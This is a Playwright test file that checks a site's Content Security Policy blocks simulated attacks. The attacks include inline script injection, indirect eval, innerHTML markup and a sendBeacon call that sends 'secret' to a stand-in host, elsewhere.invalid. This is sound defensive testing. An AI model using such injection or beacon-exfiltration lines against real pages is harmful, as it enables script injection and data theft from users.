import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { PAGE_POLICY } from '#build/security-policy.ts';
import { buildSeedSite } from '../built-site.ts';
import { expect, test } from '../fixtures.ts';

interface Attack {
  readonly name: string;
  /** The directive that is to block it. */
  readonly directive: string;
  /** Runs in the page. */
  readonly run: () => void;
}

// Each attacks from a timer: code that the driver itself evaluates is exempt from the policy, so an
// attack from there would prove nothing.
const ATTACKS: readonly Attack[] = [
  {
    name: 'an inline script',
    directive: 'require-trusted-types-for',
    run: () =>
      window.setTimeout(() => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.head.append(script);
      }),
  },
  {
    name: 'an inline style sheet',
    directive: 'style-src-elem',
    run: () =>
      window.setTimeout(() => {
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
      }),
  },
  {
    name: 'eval',
    directive: 'require-trusted-types-for',
    run: () =>
      window.setTimeout(() => {
        // By another name, because the linter rightly forbids the plain one.
        Reflect.apply(Reflect.get(window, 'eval') as () => void, null, ['document.title = "x"']);
      }),
  },
  {
    name: 'a text made into markup',
    directive: 'require-trusted-types-for',
    run: () =>
      window.setTimeout(() => Reflect.set(document.body, 'innerHTML', '<b>taken over</b>')),
  },
  {
    name: 'a picture from elsewhere',
    directive: 'img-src',
    run: () =>
      window.setTimeout(() => {
        new Image().src = 'https://elsewhere.invalid/pixel.png';
      }),
  },
  {
    name: 'a message to elsewhere',
    directive: 'connect-src',
    run: () =>
      window.setTimeout(() => navigator.sendBeacon('https://elsewhere.invalid/', 'secret')),
  },
];

test('the page carries its policy right after the charset @policy', async () => {
  const page = await readFile(join(await buildSeedSite(), 'index.html'), 'utf8');
  expect(page).toMatch(/<meta charset="utf-8" \/>\s*<meta http-equiv="Content-Security-Policy"/);
  expect(page).toContain(`content="${PAGE_POLICY}"`);
});

test('the page opens without breaking its own policy @policy', async ({ page }) => {
  await page.goto('');
  await expect(page).toHaveTitle(/Lectern/);
});

for (const { name, directive, run } of ATTACKS) {
  test(`the policy blocks ${name} @policy`, async ({ page, troubles }) => {
    troubles.allow(/policy violation|console error|page error|elsewhere\.invalid/);
    await page.goto('');
    const title = await page.title();
    const blocked = nextViolation(page);
    await page.evaluate(run);
    expect(await blocked).toBe(directive);
    expect(await page.title()).toBe(title);
  });
}

test('a violation fails the test that met it @policy', async ({ page, troubles }) => {
  await page.goto('');
  const blocked = nextViolation(page);
  await page.evaluate(() =>
    window.setTimeout(() => Reflect.set(document.body, 'innerHTML', '<b>')),
  );
  await blocked;
  await expect.poll(() => troubles.found().join('\n')).toMatch(/policy violation/);
  troubles.allow(/policy violation|console error|page error/);
});

/** The directive of the next policy violation in the page. */
function nextViolation(page: Page): Promise<string> {
  return page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener(
          'securitypolicyviolation',
          (event) => resolve(event.effectiveDirective),
          { once: true },
        );
      }),
  );
}
